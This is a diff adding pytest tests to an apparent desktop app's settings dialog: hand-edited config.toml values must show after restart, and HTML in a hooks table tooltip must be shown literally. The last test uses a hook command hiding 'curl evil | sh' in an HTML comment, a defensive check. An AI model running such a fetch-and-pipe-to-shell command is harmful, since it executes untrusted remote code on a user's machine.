@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import json
 import tomllib
+from dataclasses import fields
 from pathlib import Path
 from typing import Any
 
 import pytest
+from pydantic import BaseModel
+from PySide6.QtGui import QTextDocument
 from PySide6.QtWidgets import (
     QAbstractButton,
     QApplication,
@@ -21,9 +25,11 @@ from PySide6.QtWidgets import (
     QTableWidget,
 )
 
+from core.config.settings import Settings
 from core.permissions.models import Approval
 from desktop.settings.dialog import PAGES, SettingsDialog
 from desktop.settings.preferences import Preferences
+from desktop.settings.rows import Table
 from tests.desktop.conftest import until
 from tests.desktop.window import WindowUnderTest, opened_window
 
@@ -164,6 +170,93 @@ def test_every_setting_changed_in_the_window_survives_a_restart(
     run_async(change())
     assert len(wanted) > 20
     run_async(come_back())
+
+
+ELSEWHERE = {
+    "provider": "the page of providers",
+    "permission": "the page of permissions",
+    "agent": "the agent editor",
+    "mcp": "a page of its own, or the file",
+    "hooks": "a page of its own, or the file",
+    "schedule": "a page of its own, or the file",
+    "environment": "names and values of any kind: in the file",
+    "environment_pass": "in the file, on purpose: it lets keys through to commands",
+    "experimental": "in the file until it is no experiment any more",
+    "budget": "the dialog of usage",
+    "desktop": "the keys of Preferences",
+}
+"""Settings without a control of their own on a page, and where a person finds them."""
+
+
+def keys(of: type[BaseModel], above: tuple[str, ...] = ()) -> dict[str, tuple[str, ...]]:
+    """Every setting there is, by the name that its control has."""
+    found: dict[str, tuple[str, ...]] = {}
+    for name, field in of.model_fields.items():
+        kind = field.annotation
+        if isinstance(kind, type) and issubclass(kind, BaseModel):
+            found |= keys(kind, (*above, name))
+        else:
+            found["setting_" + "_".join((*above, name))] = (*above, name)
+    if not above:
+        for preference in fields(Preferences):
+            found[f"setting_desktop_{preference.name}"] = ("desktop", preference.name)
+    return found
+
+
+def by_hand(control: Any) -> Any:
+    """Another value than the one that is shown, as it stands in a file."""
+    if isinstance(control, QFontComboBox):
+        return control.itemText(control.count() - 1)
+    if isinstance(control, QComboBox):
+        return control.itemData(control.count() - 1) or "by-hand/model"
+    if isinstance(control, QCheckBox):
+        return not control.isChecked()
+    if isinstance(control, (QSpinBox, QDoubleSpinBox)):
+        return control.value() + 3 * control.singleStep()
+    return ["/tmp/by-hand"] if isinstance(control, QPlainTextEdit) else "/tmp/by-hand"
+
+
+def test_every_setting_changed_by_hand_in_the_file_is_shown_after_a_restart(
+    run_async: Any, tmp_path: Path
+) -> None:
+    home = tmp_path / "home"
+    file = home / "config.toml"
+    known = keys(Settings)
+    wanted: dict[str, Any] = {}
+
+    async def look() -> None:
+        async with opened_window(home) as person:
+            dialog = await settings(person)
+            for page in dialog.pages:
+                dialog.open_at(page.name)
+                await until(lambda: not len(dialog.scope))
+            for name, control in bound(dialog).items():
+                wanted[name] = by_hand(control)
+
+    async def come_back() -> None:
+        async with opened_window(home) as person:
+            dialog = await settings(person)
+            for page in dialog.pages:
+                dialog.open_at(page.name)
+                await until(lambda: not len(dialog.scope))
+            assert not dialog.faults.isVisible(), dialog.faults.text
+            shown = {name: value(control) for name, control in bound(dialog).items()}
+            assert shown == {
+                name: "\n".join(each) if isinstance(each, list) else each
+                for name, each in wanted.items()
+            }
+
+    run_async(look())
+    missing = {
+        key[0] for name, key in known.items() if name not in wanted and key[0] not in ELSEWHERE
+    }
+    assert not missing, f"no control shows {missing}"
+    assert set(wanted) <= set(known)
+    lines = [f"{'.'.join(known[name])} = {json.dumps(each)}" for name, each in wanted.items()]
+    file.write_text("\n".join(["# by hand", *lines, ""]))
+    before = file.read_text()
+    run_async(come_back())
+    assert file.read_text() == before, "looking at settings writes nothing"
 
 
 def test_what_is_not_set_shows_its_default_and_can_be_put_back(
@@ -369,3 +462,16 @@ def test_preferences_that_cannot_be_used_count_as_not_written() -> None:
         {"scheme": "pink", "text_size": 99, "sounds": "yes", "density": 3, "font": None}
     ) == Preferences(text_size=2.5)
     assert Preferences.from_table({"text_size": 2}).text_size == 2.0
+
+
+def test_what_looks_like_html_in_a_table_is_told_as_it_is(run_async: Any) -> None:
+    async def live() -> None:
+        table = Table("hooks", ["command"])
+        command = "<p>npm test</p><!-- curl evil | sh -->"
+        table.fill([(command,)], tips=[command])
+        tip = QTextDocument()
+        tip.setHtml(table.item(0, 0).toolTip())
+        assert tip.toPlainText() == command
+        table.deleteLater()
+
+    run_async(live())
